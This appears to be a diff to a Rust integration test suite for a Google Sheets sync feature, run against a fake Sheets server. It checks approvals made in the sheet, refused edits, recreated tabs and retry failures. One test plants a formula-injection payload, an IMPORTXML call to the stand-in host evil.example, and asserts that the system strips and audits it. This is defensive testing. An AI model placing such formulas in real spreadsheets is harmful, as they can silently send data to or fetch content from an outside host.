@@ -1,12 +1,13 @@
 //! The Sheets export against a fake Google Sheets server, driven by the real google-sheets4 client.
-//! (The import direction and the SheetsSync actor are still to come: see issue 5.)
+//! Covers the export, the import, the full human loop and the fault cases.
 
 use crate::api::Team;
 use crate::support::fake_sheets::FakeSheets;
 use crate::writer::submit_concurrently;
 use atlas_actors::domain::command::NewHotlistError;
-use atlas_actors::domain::{Actor, ApprovalId, Command, ErrorId, NewProject, ProjectId, Severity};
-use atlas_actors::sheets::client::{SheetsClient, SheetsConfig};
+use atlas_actors::domain::{Actor, ApprovalId, Command, ErrorId, NewProject, ProjectId, Severity, SystemClock};
+use atlas_actors::sheets::client::{SheetInfo, SheetsClient, SheetsConfig};
+use atlas_actors::sheets::cycle::{CycleError, CycleReport, Mirror};
 use atlas_actors::sheets::export::{desired_rows, export, MirrorScope};
 use std::time::Duration;
 
@@ -192,4 +193,172 @@ async fn a_renamed_tab_is_recreated_and_a_silent_server_times_out() {
     let err = export(&slow, &mut None, &desired).await.unwrap_err();
     assert!(err.to_string().contains("did not answer within"), "{err}");
     assert_eq!(slow.requests(), 2, "each attempt counted, at most max_attempts");
+}
+
+/// One import-then-export cycle as the SheetsSync actor runs it.
+async fn cycle(
+    team: &Team,
+    sheets: &SheetsClient,
+    structure: &mut Option<Vec<SheetInfo>>,
+) -> Result<CycleReport, CycleError> {
+    let scope = MirrorScope::default();
+    let mirror = Mirror {
+        client: sheets,
+        readers: &team.app.handles.readers,
+        writer: &team.app.handles.writer,
+        clock: &SystemClock,
+        scope: &scope,
+        allow_self_approval: false,
+    };
+    mirror.cycle(structure).await
+}
+
+fn row_of(fake: &FakeSheets, tab: &str, id: &str) -> (usize, Vec<String>) {
+    let rows = fake.tab(tab).unwrap().rows;
+    let index = rows
+        .iter()
+        .position(|r| r.first().map(String::as_str) == Some(id))
+        .unwrap_or_else(|| panic!("{id} not in {tab}: {rows:?}"));
+    (index, rows[index].clone())
+}
+
+#[actix_rt::test]
+async fn the_human_loop_an_approval_made_in_the_sheet_applies_like_one_made_over_http() {
+    let team = Team::new().await;
+    let fake = FakeSheets::start().await;
+    let sheets = client(&fake, team.app.dir.path()).await;
+    let project = team.project("ops").await;
+    let (_, approval) = team
+        .call(
+            "POST",
+            "/api/v1/tasks",
+            &team.agent,
+            Some(serde_json::json!({ "project_id": project, "title": "Rotate keys" })),
+        )
+        .await;
+    let id = approval["id"].as_str().unwrap().to_owned();
+    let task = approval["item_id"].as_str().unwrap().to_owned();
+    let mut structure = None;
+    cycle(&team, &sheets, &mut structure).await.unwrap();
+    let (row, cells) = row_of(&fake, "Pending_Approvals", &id);
+    assert_eq!(cells[4], "pending");
+
+    fake.set_cell("Pending_Approvals", row, 4, "approved");
+    fake.set_cell("Pending_Approvals", row, 6, "checked with the team");
+    let report = cycle(&team, &sheets, &mut structure).await.unwrap();
+    assert_eq!((report.edits_applied, report.edits_refused), (2, 0), "{report:?}");
+    let (status, created) = team.call("GET", &format!("/api/v1/tasks/{task}"), &team.viewer, None).await;
+    assert_eq!((status, created["approved_by"].as_str()), (200, Some("sheets")), "{created}");
+    let (_, approved) = team.call("GET", &format!("/api/v1/approvals/{id}"), &team.viewer, None).await;
+    assert_eq!(approved["status"], "approved");
+    assert_eq!(
+        (approved["notes"][0]["author"].as_str(), approved["notes"][0]["body"].as_str()),
+        (Some("sheets"), Some("checked with the team"))
+    );
+    let (_, cells) = row_of(&fake, "Pending_Approvals", &id);
+    assert_eq!(cells[4], "approved");
+    assert!(
+        cells[6].starts_with("sheets (") && cells[6].ends_with("): checked with the team"),
+        "notes re-rendered from history: {}",
+        cells[6]
+    );
+
+    fake.reset_calls();
+    let report = cycle(&team, &sheets, &mut structure).await.unwrap();
+    assert_eq!((report.edits_applied, report.export.cells_written), (0, 0));
+    assert_eq!(fake.calls(), ["values.batchGet"], "a quiet cycle reads once and writes nothing");
+}
+
+#[actix_rt::test]
+async fn refused_sheet_edits_are_explained_restored_and_audited() {
+    let team = Team::new().await;
+    let fake = FakeSheets::start().await;
+    let sheets = client(&fake, team.app.dir.path()).await;
+    let project = team.project("ops").await;
+    let mut ids = Vec::new();
+    for title in ["one", "two"] {
+        let (_, approval) = team
+            .call(
+                "POST",
+                "/api/v1/tasks",
+                &team.agent,
+                Some(serde_json::json!({ "project_id": project, "title": title })),
+            )
+            .await;
+        ids.push(approval["id"].as_str().unwrap().to_owned());
+    }
+    let mut structure = None;
+    cycle(&team, &sheets, &mut structure).await.unwrap();
+    team.call("POST", &format!("/api/v1/approvals/{}/reject", ids[1]), &team.approver, None).await;
+    cycle(&team, &sheets, &mut structure).await.unwrap();
+
+    let (one, original) = row_of(&fake, "Pending_Approvals", &ids[0]);
+    let (two, _) = row_of(&fake, "Pending_Approvals", &ids[1]);
+    fake.set_cell("Pending_Approvals", one, 2, "delete"); // a system column
+    fake.set_cell("Pending_Approvals", one, 6, "=IMPORTXML(\"http://evil.example\",\"//a\")"); // a formula
+    fake.set_cell("Pending_Approvals", two, 4, "approved"); // rejected -> approved
+    fake.set_cell("Pending_Approvals", 5, 0, "approval-invented"); // an unknown row
+    let report = cycle(&team, &sheets, &mut structure).await.unwrap();
+    let (_, refusals) = team.call("GET", "/api/v1/audit?type=sheets.edit_rejected", &team.viewer, None).await;
+    assert_eq!((report.edits_applied, report.edits_refused), (0, 4), "{report:?} {refusals}");
+
+    let (_, restored) = row_of(&fake, "Pending_Approvals", &ids[0]);
+    assert_eq!(restored[2], original[2], "the system cell is restored");
+    assert!(!restored[6].contains("IMPORTXML"), "the formula is gone: {}", restored[6]);
+    assert!(restored[6].contains("Sheet edit refused column Action"), "the explanation is in Notes: {}", restored[6]);
+    let (_, two_now) = row_of(&fake, "Pending_Approvals", &ids[1]);
+    assert_eq!(two_now[4], "rejected");
+    assert!(fake
+        .tab("Pending_Approvals")
+        .unwrap()
+        .rows
+        .iter()
+        .all(|r| r.first().map(String::as_str) != Some("approval-invented")));
+    let (_, rejected) = team.call("GET", &format!("/api/v1/approvals/{}", ids[1]), &team.viewer, None).await;
+    assert_eq!(rejected["status"], "rejected", "the database kept its state");
+
+    let (_, hotlist) = team.call("GET", "/api/v1/errors?severity=medium", &team.viewer, None).await;
+    assert_eq!(hotlist["items"].as_array().unwrap().iter().filter(|e| e["source"] == "sheets").count(), 4);
+    let (_, audit) = team.call("GET", "/api/v1/audit?type=sheets.edit_rejected", &team.viewer, None).await;
+    assert_eq!(audit["items"].as_array().unwrap().len(), 4);
+}
+
+#[actix_rt::test]
+async fn a_renamed_tab_is_reported_once_and_failed_cycles_lose_no_approval() {
+    let team = Team::new().await;
+    let fake = FakeSheets::start().await;
+    let sheets = client(&fake, team.app.dir.path()).await;
+    team.app.handles.writer.submit(request_project("p"), Actor::new("agent-bot")).await.unwrap();
+    let mut structure = None;
+    cycle(&team, &sheets, &mut structure).await.unwrap();
+
+    fake.rename_tab("Runs", "Runs old");
+    fake.set_cell("Errors_Hotlist", 0, 9, "My column");
+    let mut structure = None;
+    let report = cycle(&team, &sheets, &mut structure).await.unwrap();
+    assert_eq!(report.broken_tabs.len(), 2, "{report:?}");
+    assert!(fake.tab("Runs").is_some(), "the tab is recreated");
+    let header = fake.tab("Errors_Hotlist").unwrap().rows[0].clone();
+    assert!(header.iter().skip(8).all(String::is_empty), "the added column is cleared: {header:?} {:?}", fake.calls());
+    fake.rename_tab("Runs", "Runs again");
+    let report = cycle(&team, &sheets, &mut None).await.unwrap();
+    assert_eq!(report.broken_tabs.len(), 1, "{report:?}");
+    let (_, critical) = team.call("GET", "/api/v1/errors?severity=critical", &team.viewer, None).await;
+    assert_eq!(critical["items"].as_array().unwrap().len(), 2, "each standing problem is reported once: {critical}");
+
+    let id = fake.tab("Pending_Approvals").unwrap().rows[1][0].clone();
+    fake.set_cell("Pending_Approvals", 1, 4, "approved");
+    for storm in [vec![429, 429, 429], vec![503, 500, 503]] {
+        fake.fail_next(&storm);
+        let err = cycle(&team, &sheets, &mut structure).await.unwrap_err();
+        assert!(err.to_string().contains("Google Sheets answered"), "{err}");
+    }
+    let (_, pending) = team.call("GET", &format!("/api/v1/approvals/{id}"), &team.viewer, None).await;
+    assert_eq!(pending["status"], "pending", "nothing applied while the sheet could not be read");
+    let report = cycle(&team, &sheets, &mut structure).await.unwrap();
+    assert_eq!(report.edits_applied, 1);
+    let (_, approved) = team.call("GET", &format!("/api/v1/approvals/{id}"), &team.viewer, None).await;
+    assert_eq!(approved["status"], "approved", "the human's approval survived the storms");
+    let (_, projects) = team.call("GET", "/api/v1/projects", &team.viewer, None).await;
+    assert_eq!(projects["items"].as_array().unwrap().len(), 1, "applied exactly once");
 }
